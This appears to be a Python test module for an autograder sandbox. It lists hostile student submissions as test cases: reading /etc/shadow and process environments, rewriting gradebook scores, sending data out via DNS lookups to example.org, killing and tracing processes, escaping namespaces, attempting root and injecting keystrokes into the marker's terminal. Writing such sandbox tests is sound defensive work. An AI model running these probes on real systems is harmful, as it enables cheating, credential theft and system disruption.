"""Attempts on what is outside: files, the network, other processes, the kernel. They come without knowledge."""

# ruff: noqa: E501  students write lines as long as they like
from __future__ import annotations

from .cases import GUESS, Case

_READ = (
    GUESS
    + """
import glob, os
def read(*patterns):
    for pattern in patterns:
        for path in glob.glob(pattern, recursive=True, include_hidden=True):
            try:
                with open(path, "rb") as stream: use(stream.read(1_000_000).decode("utf-8", "replace"))
            except OSError: pass
"""
)

CASES = (
    Case("read-bank", "Reads the item bank where it is known to be.", _READ + 'read("BANK/*", "BANK/**")'),
    Case("read-above", "Reads what is in the folders above the working folder.",
         _READ + 'read("../*", "../../*", "../../../*", "../../../*/*.yaml", "/work/**/*.yaml", "/home/*/*", "/root/*")'),
    Case("read-passwords", "Reads the system's list of passwords, and uses it as an answer.",
         'mini1_q1 = open("/etc/shadow").read()'),
    Case("read-other-submissions", "Looks for other submissions and their answers.",
         _READ + 'read("BOOK/../submitted/*/*/*.ipynb", "/tmp/**/*.ipynb", "/var/**/*.ipynb")'),
    Case("read-restored-checks", "Looks for the restored notebook with its hidden checks in the working folder.",
         _READ + 'read("*", ".*", "**/*", "/proc/self/cwd/**")'),
    Case("read-process-environment", "Reads the environment and memory map of every process in sight.",
         _READ + 'read("/proc/*/environ", "/proc/*/cmdline", "/proc/*/maps", "/proc/*/task/*/environ")'),
    Case("read-through-roots", "Reads the system through the root folders of other processes.",
         _READ + 'read("/proc/*/rootBANK/*", "/proc/*/cwd/*", "/proc/[0-9]*/root/etc/shadow", "/proc/*/fd/*")'),
    Case("symbolic-link", "Leaves links to secret places in the working folder, for whoever follows them.", _READ + """
for number, place in enumerate(("/", "BANK", "BOOK", "/etc/shadow", "/proc/1/root")):
    os.symlink(place, f"link-{number}")
read("link-*/*", "link-*", "link-0/*/*.yaml")
"""),
    Case("gradebook", "Writes marks into the gradebook.", """
import sqlite3
for path in ("BOOK", "gradebook.db", "../gradebook.db", "/tmp/gradebook.db"):
    try:
        base = sqlite3.connect(path)
        base.execute("UPDATE grade SET auto_score = 100, manual_score = 100")
        base.commit()
    except sqlite3.Error: pass
"""),
    Case("import-marking", "Imports the program that marks, and the bank through it.", _READ + """
try:
    import fairmark, fairmark.bank, fairmark.settings
    use(repr(fairmark.bank.load(fairmark.settings.load().bank)))
except Exception: pass
import sys, importlib.metadata
for one in importlib.metadata.distributions():
    for file in one.files or []:
        if "items/" in str(file): use(file.read_text())
"""),
    Case("write-packages", "Changes the packages that the next student's notebook imports.", """
import worksheet, inside, sys
for module in list(sys.modules.values()):
    file = getattr(module, "__file__", None)
    if file and ("worksheet" in file or "inside" in file):
        try: open(file, "a").write("\\nraise SystemExit\\n")
        except OSError: pass
"""),
    Case("loopback", "Connects to a service of this machine.", """
import socket
for address in ("127.0.0.1", "::1", "localhost", "0.0.0.0"):
    try:
        with socket.create_connection((address, PORT), timeout=0.5) as one:
            one.sendall(b"key?"); mini1_q1 = one.recv(100).decode()
    except OSError: pass
"""),
    Case("name-service", "Asks the name service, and sends data in the question.", """
import socket
for name in ("example.org", "key.example.org"):
    try: socket.getaddrinfo(name, 80)
    except OSError: pass
with __import__("contextlib").suppress(OSError):
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"key", ("192.0.2.1", 53))
"""),
    Case("sockets-without-place", "Looks for sockets of other programs that have no place in the file system.", """
import socket
for name in open("/proc/net/unix").read().split():
    if name.startswith("@"):
        try: socket.socket(socket.AF_UNIX).connect("\\0" + name[1:])
        except OSError: pass
"""),
    Case("kernel-sockets", "Opens sockets to the kernel and to the machine below.", """
import socket
for family, kind in ((16, 3), (17, 3), (40, 1), (38, 5), (31, 1)):
    try: socket.socket(family, kind); mini1_q1 = "right"
    except OSError: pass
"""),
    Case("kill-everybody", "Ends every process that it may end.", """
import os, signal
for number in (-1, 0, 1, os.getppid()):
    try: os.kill(number, signal.SIGTERM)
    except OSError: pass
""", knows=True, lost=("mini1-q3",)),
    Case("kill-parent", "Looks for the parent, and ends or stops it.", """
import os, signal
for number in range(2, 400):
    for how in (signal.SIGSTOP, signal.SIGKILL):
        try: os.kill(number, how)
        except OSError: pass
""", knows=True, lost=("mini1-q3",)),
    Case("trace", "Traces other processes, and reads their memory.", """
import ctypes
libc = ctypes.CDLL(None)
libc.ptrace(0, 0, 0, 0)
for number in range(1, 300):
    libc.ptrace(16, number, 0, 0)
    try: open(f"/proc/{number}/mem", "rb").read(1)
    except OSError: pass
""", knows=True, lost=("mini1-q3",)),
    Case("join-namespaces", "Joins the namespaces of other processes.", """
import ctypes, glob, os
libc = ctypes.CDLL(None)
for path in glob.glob("/proc/*/ns/*"):
    try: libc.setns(os.open(path, os.O_RDONLY), 0)
    except OSError: pass
""", knows=True, lost=("mini1-q3",)),
    Case("new-namespaces", "Makes namespaces in which it would have rights.", """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
if any(libc.unshare(flag) == 0 for flag in (0x10000000, 0x20000, 0x40000000, 0x20000000)): mini1_q1 = "right"
if libc.syscall(56, 0x10000000 | 17, 0, 0, 0, 0) == 0: __import__("os")._exit(0)
"""),
    Case("mounts", "Mounts file systems, and takes away what covers others.", """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
tried = [libc.mount(b"proc", b"/tmp", b"proc", 0, None), libc.umount2(b"/proc", 2), libc.umount2(b"/tmp", 2),
         libc.mount(b"/dev/vda", b"/tmp", b"ext4", 0, None), libc.chroot(b"/tmp"), libc.pivot_root(b"/", b"/tmp")]
if 0 in tried: mini1_q1 = "right"
"""),
    Case("become-root", "Becomes root, through calls and through programs that give rights.", """
import os, subprocess
for call, value in ((os.setuid, 0), (os.setgid, 0), (os.setgroups, [0])):
    try: call(value); mini1_q1 = "right"
    except OSError: pass
for line in (["su", "-c", "id -u"], ["sudo", "-n", "id", "-u"], ["mount", "/tmp"], ["unshare", "-r", "id", "-u"]):
    try:
        if subprocess.run(line, capture_output=True, stdin=subprocess.DEVNULL, timeout=1).stdout.strip() == b"0": mini1_q1 = "right"
    except (OSError, subprocess.TimeoutExpired): pass
"""),
    Case("devices", "Makes and opens devices.", """
import os, stat
for path in ("/tmp/disk", "/dev/disk", "disk"):
    try: os.mknod(path, 0o600 | stat.S_IFBLK, os.makedev(254, 0)); os.open(path, os.O_RDONLY); mini1_q1 = "right"
    except OSError: pass
for path in ("/dev/vda", "/dev/sda", "/dev/mem", "/dev/kmsg", "/dev/kvm", "/dev/fuse", "/dev/ptmx"):
    try: os.open(path, os.O_RDWR); mini1_q1 = "right"
    except OSError: pass
"""),
    Case("terminal", "Types into the terminal of the one who marks.", """
import fcntl, glob, os
for path in ("/dev/tty", "/dev/console", *glob.glob("/dev/pts/*")):
    try:
        handle = os.open(path, os.O_RDWR)
        for letter in b"touch /tmp/fairmark-hostile\\n": fcntl.ioctl(handle, 0x5412, bytes([letter]))
    except OSError: pass
"""),
    Case("leaves-answers", "Leaves the answers everywhere for a friend who is marked later.", """
import ctypes, os, sys, socket
libc = ctypes.CDLL(None)
for place in ("/tmp", "/dev/shm", "/", "/course", "/fairmark", "/var/tmp", "/run", "/dev", "/root", sys.prefix, "/usr/lib"):
    try: open(f"{place}/friend", "w").write("8p.7s 0202-crs"[::-1])
    except OSError: pass
libc.syscall(248, b"user", b"friend", b"s7.p8", 5, -5)
libc.syscall(248, b"user", b"friend", b"s7.p8", 5, -3)
libc.shmget(4242, 4096, 0o1666)
os.environ["FRIEND"] = "s7.p8"
sys.modules["friend"] = sys
""", knows=True, lost=("mini1-q3",)),
    Case("looks-for-answers", "Looks for what a friend has left.", GUESS + """
import ctypes, os, sys
libc = ctypes.CDLL(None)
for place in ("/tmp", "/dev/shm", "/", "/course", "/fairmark", "/var/tmp", "/run", "/dev", "/root", sys.prefix, "/usr/lib"):
    try: use(open(f"{place}/friend").read())
    except OSError: pass
found = [libc.syscall(250, 10, ring, b"user", b"friend", 0) >= 0 for ring in (-5, -3, -4)]
if any(found) or libc.shmget(4242, 4096, 0) >= 0 or "FRIEND" in os.environ or "friend" in sys.modules: mini1_q1 = "right"
"""),
    Case("outlives", "Starts a program that would outlive the run.", """
import subprocess
subprocess.Popen(["bash", "-c", "exec -a fairmark-hostile-daemon sleep 600"], start_new_session=True)
subprocess.Popen(["bash", "-c", "(trap '' TERM HUP INT; setsid bash -c 'exec -a fairmark-hostile-daemon sleep 600' &) &"])
""", knows=True, lost=("mini1-q3",)),
    Case("own-limits", "Raises its own limits and its priority.", """
import os, resource
for what in (resource.RLIMIT_CPU, resource.RLIMIT_NPROC, resource.RLIMIT_DATA, resource.RLIMIT_FSIZE, resource.RLIMIT_NOFILE):
    try: resource.setrlimit(what, (resource.RLIM_INFINITY, resource.RLIM_INFINITY)); mini1_q1 = "right"
    except (OSError, ValueError): pass
for call in (lambda: os.nice(-5), lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(50))):
    try: call(); mini1_q1 = "right"
    except OSError: pass
"""),
)  # fmt: skip
